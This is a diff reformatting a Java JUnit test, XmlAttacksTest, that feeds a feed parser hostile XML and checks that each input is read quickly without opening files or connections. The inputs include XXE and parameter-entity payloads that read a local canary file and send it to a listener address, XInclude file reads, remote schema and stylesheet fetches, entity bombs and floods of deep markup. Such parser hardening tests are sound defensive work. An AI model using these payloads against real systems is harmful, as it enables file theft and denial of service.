@@ -19,8 +19,8 @@ import org.junit.jupiter.api.TestFactory;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * Documents made to read a file, call out, fill the memory, overflow the stack or never end. Each is
- * read in a second at most, opens nothing, and leaks nothing.
+ * Documents made to read a file, call out, fill the memory, overflow the stack or never end. Each
+ * is read in a second at most, opens nothing, and leaks nothing.
  */
 class XmlAttacksTest {
   private static final int MEBIBYTE = 1024 * 1024;
@@ -64,17 +64,25 @@ class XmlAttacksTest {
         "<!DOCTYPE r [<!ENTITY % p SYSTEM \"" + address + "\"> %p;]>" + around("&x;"));
     attacks.put(
         "parameter entity that builds another",
-        "<!DOCTYPE r [<!ENTITY % a SYSTEM \"file://" + file + "\"><!ENTITY % b \"<!ENTITY &#37; c"
-            + " SYSTEM '" + address + "?%a;'>\">%b;%c;]>" + around("x"));
+        "<!DOCTYPE r [<!ENTITY % a SYSTEM \"file://"
+            + file
+            + "\"><!ENTITY % b \"<!ENTITY &#37; c"
+            + " SYSTEM '"
+            + address
+            + "?%a;'>\">%b;%c;]>"
+            + around("x"));
     attacks.put(
         "schema location",
-        "<rss xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='a " + address
-            + "'>" + around("x"));
+        "<rss xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='a "
+            + address
+            + "'>"
+            + around("x"));
     attacks.put(
         "inclusion",
         around(
             "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='file://"
-                + file + "'/>"));
+                + file
+                + "'/>"));
     attacks.put(
         "style sheet", "<?xml-stylesheet type='text/xsl' href='" + address + "'?>" + around("x"));
     attacks.put("UTF-7", "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-" + around("x"));
@@ -126,8 +134,7 @@ class XmlAttacksTest {
     attacks.put("entries within entries", "<feed>" + flood("<entry><content>"));
     attacks.put("end tags without start", "<rss><a><b><c>" + flood("</x>"));
     attacks.put("end tags under depth", "<rss>" + "<a>".repeat(200) + flood("</x>"));
-    attacks.put(
-        "end tags under depth in an item", ITEM + "<a>".repeat(200) + flood("</x>") + END);
+    attacks.put("end tags under depth in an item", ITEM + "<a>".repeat(200) + flood("</x>") + END);
     attacks.put("markup 100,000 deep, escaped", around("&lt;b&gt;".repeat(100_000) + "x"));
     attacks.put("markup as deep as it goes, escaped", around("<![CDATA[" + flood("<b>") + "]]>"));
     attacks.put("brackets", around(flood("<")));
@@ -166,12 +173,15 @@ class XmlAttacksTest {
     attacks.put("titles without number", "<rss><channel>" + flood("<title>x</title>"));
     attacks.put("links without number", ITEM + END + flood("<link href='x'/>"));
     attacks.put("authors without number", ITEM + flood("<author><name>x</name></author>") + END);
-    attacks.put("dates without number", "<rss><channel>" + flood("<item><pubDate>x</pubDate></item>"));
-    attacks.put("an id of a megabyte", "<rss><item><guid>" + fill("x", MEBIBYTE) + "</guid></item>");
+    attacks.put(
+        "dates without number", "<rss><channel>" + flood("<item><pubDate>x</pubDate></item>"));
+    attacks.put(
+        "an id of a megabyte", "<rss><item><guid>" + fill("x", MEBIBYTE) + "</guid></item>");
     attacks.put("a link of a megabyte", "<rss><item><link>http://" + fill("x", MEBIBYTE));
     attacks.put("an author of a megabyte", "<rss><item><author>" + fill("(a@b", MEBIBYTE));
     attacks.put("a date of a megabyte", "<rss><item><pubDate>" + fill("1 ", MEBIBYTE));
-    attacks.put("a language of a megabyte", "<rss><language>" + fill("a-", MEBIBYTE) + "</language>");
+    attacks.put(
+        "a language of a megabyte", "<rss><language>" + fill("a-", MEBIBYTE) + "</language>");
     attacks.put("a title of entities", "<rss><item><title>" + flood("&amp;amp;") + "</title>");
     attacks.put("a title of tags", "<rss><item><title>" + flood("&lt;b&gt;") + "</title>");
     attacks.put("bases within bases", fill("<a xml:base='a/'>", MEBIBYTE) + around("x"));
@@ -191,14 +201,17 @@ class XmlAttacksTest {
   Stream<DynamicTest> eachIsReadInASecondAndOpensNothing() throws IOException {
     Path secret = Files.writeString(folder.resolve("secret"), "CANARY-7f3a");
     HostileServer listener = new HostileServer();
-    Map<String, String> all = new LinkedHashMap<>(entities(secret.toString(), listener.at("/x").toString()));
+    Map<String, String> all =
+        new LinkedHashMap<>(entities(secret.toString(), listener.at("/x").toString()));
     all.putAll(bombs());
     all.putAll(depths());
     all.putAll(sizes());
     // the first reading pays for loading the classes
     FeedParser.parse(around("x").getBytes(StandardCharsets.UTF_8), null, Feeds.ADDRESS);
     return all.entrySet().stream()
-        .map(each -> DynamicTest.dynamicTest(each.getKey(), () -> survives(each.getValue(), listener)));
+        .map(
+            each ->
+                DynamicTest.dynamicTest(each.getKey(), () -> survives(each.getValue(), listener)));
   }
 
   private void survives(String document, HostileServer listener) {
